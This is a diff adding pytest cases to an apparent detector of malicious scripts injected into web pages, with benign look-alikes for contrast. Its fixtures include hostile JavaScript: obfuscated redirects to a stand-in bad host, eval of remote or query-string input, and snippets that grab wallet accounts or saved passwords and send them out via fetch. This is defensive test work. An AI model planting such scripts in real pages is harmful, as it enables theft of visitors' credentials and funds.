@@ -130,3 +130,42 @@ def test_what_loads_or_shows_from_elsewhere_is_told_against_the_baseline(html: s
 @pytest.mark.parametrize("page", HONEST.values(), ids=HONEST)
 def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
     assert_not_accused(page)
+
+
+BY_SCRIPTS = {
+    "an address of fields": script("var o={p:'https://',h:'t.bad.example'};location.href=o.p+o.h"),
+    "a host with a name": script("var h='t.bad.example';location.href='//'+h"),
+    "an address of a row": script("const [x,y]=['https://t.bad','example'];location=x+'.'+y"),
+    "a window without its owner": script(f"open('{_BAD}')"),
+    "an answer that is run": script(f"$.get('{_BAD}',function(d){{eval(d)}})"),
+    "an answer that is a program": script(f"$.ajax({{url:'{_BAD}',dataType:'script'}})"),
+    "a message that is run": script("addEventListener('message',e=>eval(e.data))"),
+    "a question that is run": script("eval(new URLSearchParams(location.search).get('c'))"),
+    "a purse": script(f"ethereum.request({{method:'eth_requestAccounts'}}).then(a=>fetch('{_BAD}'+a))"),
+    "a password that is kept": script(
+        f"navigator.credentials.get({{password:true}}).then(c=>fetch('{_BAD}'+c.password))"
+    ),
+}
+_MALLS = "<a href='https://a.mall.example/'>万达商贸</a><a href='https://b.mall.example/'>华美建材</a>"
+HONEST_SCRIPTS = {
+    "an own address of fields": script("var o={p:'http://',h:'www.yunshan.gov.cn'};location.href=o.p+o.h+'/m/'"),
+    "an own page of parts": script("var d='/m/',n='index.html';location.href=d+n"),
+    "a press that opens": put(f"<a onclick=\"open('{_BAD}')\">某某建材</a>").replace(_BAD, "/a/1.html"),
+    "data that is asked for": script("$.get('/d.json',function(d){$('#n').text(d.n)})"),
+    "a message that is read": script("addEventListener('message',e=>{if(e.data.h)f.height=e.data.h})"),
+}
+
+
+@pytest.mark.parametrize("page", BY_SCRIPTS.values(), ids=BY_SCRIPTS)
+def test_a_script_that_puts_together_or_runs_is_told(page: str) -> None:
+    assert_told(page)
+
+
+@pytest.mark.parametrize("page", HONEST_SCRIPTS.values(), ids=HONEST_SCRIPTS)
+def test_an_honest_script_of_the_same_shape_is_not_accused(page: str) -> None:
+    assert_not_accused(page)
+
+
+@pytest.mark.parametrize("tag", ["noframes", "noembed", "textarea", "xmp", "template"])
+def test_links_in_what_is_not_shown_are_told_against_the_baseline(tag: str) -> None:
+    assert violations(put(f"<{tag}>{_MALLS}</{tag}>"), shot(PAGE))
